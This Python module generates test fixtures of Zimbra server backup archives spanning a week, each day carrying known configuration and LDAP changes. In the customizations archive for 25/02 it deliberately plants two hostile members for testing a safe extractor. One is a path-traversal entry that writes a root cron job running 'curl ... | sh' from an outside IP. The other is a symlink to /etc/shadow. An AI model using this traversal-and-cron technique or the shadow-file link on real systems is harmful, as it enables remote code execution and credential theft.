"""The sample's `server/` archives (FORMAT.md §5): a week of daily snapshots with known changes.

Seven days, 22/02/2014 to 28/02/2014 (Europe/Paris, CET), each with a `config`, a `customizations`
and an `ldap` archive; the last one is the seed's example (28/02/2014 04:01:14 CET). Known changes:

config (`diff_config`):       24/02 globalConfig/zimbraMtaMaxMessageSize 10240000 -> 20480000
                              25/02 serverConfig/zimbraMailMode/test.domain.com https -> both
                              26/02 domains/example.com/zimbraPublicServiceHostname added
                              27/02 globalConfig/zimbraMtaRestriction removed
                              28/02 zimlets/com_zimbra_ymemoticons/zimbraZimletPriority 11 -> 4
customizations: see server_files (keystore, main.cf, a Latin-1 file, a new map, localconfig, master.cf);
                25/02 also holds two hostile members (a `../` path and a symlink out of the tree).
ldap:           frank@example.com locked from 25/02; carol@domain.com joins staff@example.com on 27/02.
Plus a copy of the last customizations archive under a name that does not parse (`bad_name`).

Archives are deterministic: sorted members, fixed mtimes, uid/gid 0, gzip mtime 0.
"""

from __future__ import annotations

import io
import tarfile
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import ldif

from ..format.archives import CONFIG_MEMBER, LDAP_MEMBER, archive_name
from .builder import StoreBuilder, gzip_bytes
from .catalog import DEFAULT_COS_ID, NOBACKUP_COS_ID, SERVER_NAME, SERVER_TZ
from .server_files import changed_on, files_on
from .server_ldap import COS_NOTES, DOMAINS, domain_id, ldif_entries

# Snapshot instants, server local time (the seed's is the last one).
DAYS = (
    (22, 4, 0, 58), (23, 4, 1, 3), (24, 4, 1, 9), (25, 4, 0, 47), (26, 4, 1, 22), (27, 4, 1, 5), (28, 4, 1, 14),
)  # fmt: skip
# Days of the config changes (indexes into DAYS).
MAX_SIZE_RAISED, MAIL_MODE_BOTH, HOSTNAME_ADDED, RESTRICTION_REMOVED, PRIORITY_CHANGED = 2, 3, 4, 5, 6
HOSTILE_DAY = 3  # 25/02: the customizations archive with hostile members
FILES_MTIME = int(datetime(2013, 11, 5, 9, 30, tzinfo=UTC).timestamp())  # files older than the sample
BAD_NAME_SUFFIX = " (copy)"
ZIMLETS = {
    "com_zimbra_ymemoticons": ("Yahoo! Emoticons", "1.5"),
    "com_zimbra_attachmail": ("Attach mail to a message", "1.1"),
    "com_zimbra_date": ("Dates as links to the calendar", "1.9"),
    "com_zimbra_email": ("E-mail address tooltips", "2.3"),
    "com_zimbra_phone": ("Phone numbers as links", "1.5"),
    "com_zimbra_url": ("URL previews", "1.6"),
    "com_zextras_zextras": ("Zextras Suite client", "1.10.7"),
}
BLOCKED_EXTENSIONS = [
    "asd", "bat", "chm", "cmd", "com", "dll", "do", "exe", "hlp", "hta", "js", "jse", "lnk", "ocx", "pif", "reg",
    "scr", "shb", "shm", "shs", "vbe", "vbs", "vbx", "vxd", "wsf", "wsh", "xl",
]  # fmt: skip


def snapshot_time(day: int) -> datetime:
    """The local (Europe/Paris) instant of snapshot `day` (0 = 22/02/2014)."""
    dd, hh, mm, ss = DAYS[day]
    return datetime(2014, 2, dd, hh, mm, ss, tzinfo=ZoneInfo(SERVER_TZ))


def server_config_section(day: int) -> dict:
    """serverConfig: {attribute: {server: value}} for the sample's single server."""
    attrs = {
        "zimbraAdminPort": "7071",
        "zimbraImapBindPort": "143",
        "zimbraImapSSLBindPort": "993",
        "zimbraLmtpBindPort": "7025",
        "zimbraMailMode": "both" if day >= MAIL_MODE_BOTH else "https",
        "zimbraMailPort": "80",
        "zimbraMailSSLPort": "443",
        "zimbraMtaAuthEnabled": "TRUE",
        "zimbraMtaMyNetworks": "127.0.0.0/8 192.168.10.0/24 [::1]/128",
        "zimbraMtaTlsAuthOnly": "TRUE",
        "zimbraPop3BindPort": "110",
        "zimbraPop3SSLBindPort": "995",
        "zimbraRedoLogEnabled": "TRUE",
        "zimbraServiceEnabled": ["amavis", "antispam", "antivirus", "ldap", "logger", "mailbox", "mta", "snmp",
                                 "spell", "stats", "zimbra", "zimbraAdmin", "zimlet"],
        "zimbraServiceHostname": SERVER_NAME,
        "zimbraSmtpHostname": [SERVER_NAME],
        "zimbraSpellCheckURL": [f"http://{SERVER_NAME}:7780/aspell.php"],
    }  # fmt: skip
    return {attr: {SERVER_NAME: value} for attr, value in attrs.items()}


def global_config_section(day: int) -> dict:
    attrs = {
        "zimbraDefaultDomainName": "example.com",
        "zimbraFileUploadMaxSize": "10485760",
        "zimbraGalMaxResults": "100",
        "zimbraLastLogonTimestampFrequency": "7d",
        "zimbraMtaBlockedExtension": BLOCKED_EXTENSIONS,
        "zimbraMtaMaxMessageSize": "20480000" if day >= MAX_SIZE_RAISED else "10240000",
        "zimbraMtaRelayHost": "",
        "zimbraSmtpPort": "25",
        "zimbraSpamKillPercent": "75",
        "zimbraSpamSubjectTag": "[SPAM]",
        "zimbraSpamTagPercent": "33",
        "zimbraVirusDefinitionsUpdateFrequency": "2h",
    }
    if day < RESTRICTION_REMOVED:
        attrs["zimbraMtaRestriction"] = ["reject_invalid_helo_hostname", "reject_non_fqdn_sender"]
    return dict(sorted(attrs.items()))


def zimlets_section(day: int) -> dict:
    out = {}
    for number, (zimlet, (description, version)) in enumerate(sorted(ZIMLETS.items())):
        priority = str(number + 2)
        if zimlet == "com_zimbra_ymemoticons":
            priority = "4" if day >= PRIORITY_CHANGED else "11"
        out[zimlet] = {
            "zimbraZimletDescription": description,
            "zimbraZimletEnabled": "TRUE",
            "zimbraZimletIsExtension": "FALSE",
            "zimbraZimletPriority": priority,
            "zimbraZimletVersion": version,
        }
    return out


def cos_section() -> dict:
    return {
        "default": {
            "cn": "default", "description": "The default COS", "zimbraId": DEFAULT_COS_ID,
            "zimbraFeatureMobileSyncEnabled": "TRUE", "zimbraMailQuota": "0", "zimbraMailTrashLifetime": "30d",
            "zimbraPasswordMinLength": "6",
        },
        "nobackup": {
            "cn": "nobackup", "description": "Mailboxes kept out of the backup", "zimbraId": NOBACKUP_COS_ID,
            "zimbraFeatureMobileSyncEnabled": "FALSE", "zimbraMailQuota": "524288000",
            "zimbraMailTrashLifetime": "7d", "zimbraNotes": COS_NOTES["nobackup"],
            "zimbraPasswordMinLength": "6",
        },
    }  # fmt: skip


def domains_section(day: int) -> dict:
    out = {}
    for domain in sorted(DOMAINS):
        attrs = {
            "zimbraDomainDefaultCOSId": DEFAULT_COS_ID,
            "zimbraDomainName": domain,
            "zimbraDomainStatus": "active",
            "zimbraDomainType": "local",
            "zimbraGalMode": "zimbra",
            "zimbraId": domain_id(domain),
            "zimbraVirtualHostname": [f"mail.{domain}"],
        }
        if domain == "example.com" and day >= HOSTNAME_ADDED:
            attrs["zimbraPublicServiceHostname"] = "mail.example.com"
        out[domain] = dict(sorted(attrs.items()))
    return out


def config_json(day: int) -> bytes:
    import orjson

    doc = {
        "serverConfig": server_config_section(day),
        "globalConfig": global_config_section(day),
        "zimlets": zimlets_section(day),
        "cos": cos_section(),
        "domains": domains_section(day),
    }
    return orjson.dumps(doc, option=orjson.OPT_INDENT_2)


def tar_gz(entries: list[tuple], mtime_default: int) -> bytes:
    """A deterministic tar.gz of `(name, data, type, mtime, linkname)` entries, sorted by name."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name, data, kind, mtime, linkname in sorted(entries, key=lambda e: e[0]):
            info = tarfile.TarInfo(name)
            info.type = kind
            info.mtime = mtime or mtime_default
            info.uid = info.gid = 0
            info.uname = info.gname = "root"
            info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o640 if name.endswith("keystore") else 0o644
            info.linkname = linkname
            info.size = len(data) if kind == tarfile.REGTYPE else 0
            tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
    return gzip_bytes(buffer.getvalue())


def customizations_archive(day: int) -> bytes:
    folders = ["conf", "conf/msgs", "postfix", "postfix/conf"]
    entries = [(name, b"", tarfile.DIRTYPE, 0, "") for name in folders]
    for name, data in files_on(day).items():
        changed = changed_on(name)  # the file's last edit, the afternoon before that day's snapshot
        mtime = FILES_MTIME if not 0 <= changed <= day else int(snapshot_time(changed).timestamp()) - 17 * 3600
        entries.append((name, data, tarfile.REGTYPE, mtime, ""))
    if day == HOSTILE_DAY:
        hostile = b"* * * * * root curl -s http://203.0.113.7/x | sh\n"
        entries.append(("../../../etc/cron.d/zimbra-update", hostile, tarfile.REGTYPE, 0, ""))
        entries.append(("conf/ssl_key_link", b"", tarfile.SYMTYPE, 0, "/etc/shadow"))
    return tar_gz(entries, int(snapshot_time(day).timestamp()))


def ldap_archive(day: int) -> bytes:
    return ldif_archive(ldif_entries(day), snapshot_time(day))


def ldif_archive(entries: list[tuple[str, dict[str, list[str]]]], moment: datetime) -> bytes:
    """An `ldap` archive holding `ldap.ldif` of `(dn, {attribute: [values]})` entries, dated `moment`:
    `builder.write(f"server/{archive_name('ldap', moment)}", ldif_archive(entries, moment))`."""
    buffer = io.BytesIO()
    writer = ldif.LDIFWriter(buffer, cols=76)
    for dn, record in entries:
        writer.unparse(dn, record)
    when = int(moment.timestamp())
    return tar_gz([(LDAP_MEMBER, buffer.getvalue(), tarfile.REGTYPE, when, "")], when)


def add(builder: StoreBuilder, plans) -> None:
    """Write the `server/` archives of the sample (the plans of the accounts are not needed)."""
    del plans
    for day in range(len(DAYS)):
        moment = snapshot_time(day)
        when = int(moment.timestamp())
        archives = {
            "config": tar_gz([(CONFIG_MEMBER, config_json(day), tarfile.REGTYPE, when, "")], when),
            "customizations": customizations_archive(day),
            "ldap": ldap_archive(day),
        }
        for component, data in archives.items():
            builder.write(f"server/{archive_name(component, moment)}", data)
    last = archive_name("customizations", snapshot_time(len(DAYS) - 1))
    copy = last.replace(".tar.gz", f"{BAD_NAME_SUFFIX}.tar.gz")
    builder.write(f"server/{copy}", customizations_archive(len(DAYS) - 1))

